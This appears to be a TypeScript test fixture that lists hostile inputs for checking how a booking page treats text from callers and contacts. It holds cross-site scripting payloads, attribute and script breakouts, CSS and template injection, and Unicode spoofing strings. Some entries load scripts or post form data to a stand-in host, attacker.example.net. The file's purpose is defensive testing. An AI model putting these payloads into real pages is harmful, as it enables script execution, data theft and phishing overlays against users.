import { ATTACKS } from '../../attacks/support/hostile-texts.ts';

/**
 * Texts that callers and contacts could write to run in a page, to load something, or to look like the page's own words.
 * Each that runs calls `hostileRan` with its name, which `watch.hostile` records (watch.ts). None needs a click.
 */
const ran = (name: string) => `hostileRan('${name}')`;
const AWAY = 'https://attacker.example.net';
const JS = 'javascript:';

/** Markup and scripts. */
export const MARKUP: Record<string, string> = {
  script: `<script>${ran('script')}</script>`,
  'script, closing the last one': `</script><script>${ran('closed script')}</script>`,
  'script in capitals, with a slash': `<SCRIPT/x>${ran('capitals')}</SCRIPT>`,
  'script from elsewhere': `<script src="${AWAY}/x.js"></script>`,
  'module and import map': `<script type="importmap">{"imports":{"x":"${AWAY}/x.js"}}</script><script type="module">import "x"</script>`,
  'image with a handler': `<img src=x onerror="${ran('onerror')}">`,
  'image with a slash instead of a space': `<img/src='x'/onerror=${ran('slash')}>`,
  'SVG with a handler': `<svg onload="${ran('svg onload')}"></svg>`,
  'script in an SVG': `<svg><script>${ran('svg script')}</script></svg>`,
  'SVG with an animation': `<svg><animate onbegin="${ran('onbegin')}" attributeName=x dur=1s></svg>`,
  'SVG from elsewhere': `<svg><use href="${AWAY}/x.svg#x"></use><image href="${AWAY}/x.png"></image></svg>`,
  'focus of an input': `<input autofocus onfocus="${ran('onfocus')}">`,
  'opened details': `<details open ontoggle="${ran('ontoggle')}">x</details>`,
  'end of an animation': `<style>@keyframes k{}</style><b style="animation:k 1ms" onanimationstart="${ran('animation')}">x</b>`,
  'video and audio': `<video><source onerror="${ran('video')}"></video><audio src=x onerror="${ran('audio')}"></audio>`,
  'handler of the body': `<body onload="${ran('body')}">`,
  'noscript, which parsers read differently': `<noscript><p title="</noscript><img src=x onerror=${ran('noscript')}>">`,
  'template with a shadow root': `<div><template shadowrootmode=open><img src=x onerror="${ran('template')}"></template></div>`,
  'iframe with a document': `<iframe srcdoc="<script>${ran('srcdoc')}</script>"></iframe>`,
  'iframe with a script address': `<iframe src="${JS}${ran('iframe')}"></iframe>`,
  'iframe, object and embed from elsewhere': `<iframe src="${AWAY}"></iframe><object data="${AWAY}"></object><embed src="${AWAY}">`,
  form: `<form action="${AWAY}"><input name=phone value=x><button>Cancel booking</button></form>`,
  'form that sends itself': `<form id=f action="${AWAY}"></form><img src=x onerror="f.submit()">`,
  base: `<base href="${AWAY}/"><a href="x">x</a>`,
  refresh: `<meta http-equiv="refresh" content="0;url=${AWAY}">`,
  'policy of its own': '<meta http-equiv="Content-Security-Policy" content="script-src \'unsafe-eval\' *">',
  'style sheet from elsewhere': `<link rel="stylesheet" href="${AWAY}/x.css"><style>@import "${AWAY}/y.css";</style>`,
  'preconnect and prefetch': `<link rel="preconnect" href="${AWAY}"><link rel="prefetch" href="${AWAY}/x"><link rel="dns-prefetch" href="//attacker.example.net">`,
  'image from elsewhere': `<img src="${AWAY}/p.png?d=secret"><img srcset="${AWAY}/q.png 1x"><picture><source srcset="${AWAY}/r.png"><img></picture>`,
  'style that hides everything': '<style>*{display:none!important}</style>',
  'style that covers everything': `<div style="position:fixed;inset:0;background:url(${AWAY}/x.png);z-index:2147483647">Signed out. Sign in again.</div>`,
  comment: `<!--><img src=x onerror="${ran('comment')}">-->`,
  'CDATA section': `<![CDATA[><img src=x onerror="${ran('cdata')}">]]>`,
};

/** Texts that leave an attribute, a script, a style or an address. */
export const BREAKOUTS: Record<string, string> = {
  'double quote': `"><img src=x onerror="${ran('double quote')}">`,
  'single quote': `'><img src=x onerror='${ran('single quote').replaceAll("'", '"')}'>`,
  'handler in an attribute': `" autofocus onfocus="${ran('attribute')}" x="`,
  'handler in an attribute without quotes': `x onfocus=${ran('unquoted')} autofocus tabindex=0`,
  'end of a style': `</style><img src=x onerror="${ran('style')}">`,
  'end of a title and a text area': `</title></textarea></select></option><img src=x onerror="${ran('title')}">`,
  'declarations of CSS': `red;background:url(${AWAY}/x.png);position:fixed;inset:0`,
  'rules of CSS': `}*{background:url(${AWAY}/x.png)}@import url(${AWAY}/x.css);{`,
  'escaped CSS': `\\3c img src=x \\22;background:u\\72l(${AWAY})`,
  'script address': `${JS}${ran('address')}`,
  'script address with a tab and in capitals': `JaVa\tScRiPt:${ran('tab')}`,
  'script address behind a control character': `\u0001${JS}${ran('control')}`,
  'data address': `data:text/html,<script>${ran('data')}</script>`,
  'address without a scheme': '//attacker.example.net/x',
  'template literal': `\${${ran('template literal')}}\`;${ran('backtick')};\``,
  'template of a framework': `{{constructor.constructor("${ran('moustache').replaceAll("'", "\\'")}")()}}`,
  'end of a JSON string': `","x":"y"}</script><script>${ran('json')}</script>`,
  'end of a script string': `\\";${ran('string')};//`,
  'end of a line in a script': `\u2028${ran('u2028')}\u2029${ran('u2029')}`,
  'entities of HTML': `&lt;img src=x onerror=${ran('entities')}&gt; &#60;script&#62; &quot; &amp;amp;`,
  'entities without a semicolon': '&ltscript&gt &#x3cscript',
  'prototype keys': '__proto__',
  'constructor key': 'constructor',
  'key of an object': 'toString',
  'element as JSON':
    '{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=hostileRan(1)>"}},"__v":1}',
};

/** Texts that break a layout, or hide what they say. */
export const SHAPES: Record<string, string> = {
  'override of direction': 'Ana \u202Egnikoob lecnaC\u202C',
  'isolates that stay open': 'Ana \u2067\u2066\u202B\u202A open',
  'right to left': 'محمد علي — מוטי כהן (04:30)',
  'zero-width': 'Can\u200Bcel\u200D\u2060 boo\uFEFFking',
  'soft hyphens and combining marks': `No\u00ADtes ${'Z\u0301\u0302\u0303\u0489'.repeat(40)}`,
  'very long word': 'Donaudampfschifffahrtsgesellschaft'.repeat(60),
  'very long text': 'I would like to move my appointment. '.repeat(300).trim(),
  'many lines': 'line\n'.repeat(200).trim(),
  'line ends and tabs': 'a\r\nb\rc\n\n\n\td\v\fe',
  'emoji of many parts': '👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿👍🏽🇺🇳❤️‍🔥'.repeat(20),
  'only spaces': ' \u00A0\u2003\u3000 ',
  'empty and invisible': '\u3164\u2800\u200B',
  'wide letters': '﷽'.repeat(30),
  'full-width markup': '＜script＞hostileRan(1)＜/script＞',
};

/** Everything: also what was written to attack language models, terminals and logs. */
export const HOSTILE: Readonly<Record<string, string>> = { ...ATTACKS, ...MARKUP, ...BREAKOUTS, ...SHAPES };

const CONFUSABLE: Record<string, string> = { a: 'а', c: 'с', e: 'е', i: 'і', o: 'о', p: 'р', s: 'ѕ', x: 'х', y: 'у' };

/** Returns texts that imitate words of a page: its buttons, headings and messages. */
export function imitationsOf(words: string): string[] {
  return [
    words,
    ` ${words} `,
    `\n${words}\n`,
    `[ ${words} ]`,
    `✓ ${words}.`,
    `"${words}"`,
    words.toUpperCase(),
    words.replace(/[aceiopsxy]/g, (letter) => CONFUSABLE[letter] ?? letter),
    Array.from(words).join('\u200B'),
    `\u202E${Array.from(words).reverse().join('')}\u202C`,
    `<button type="button">${words}</button>`,
    `<h2>${words}</h2>`,
    `**${words}**`,
  ];
}
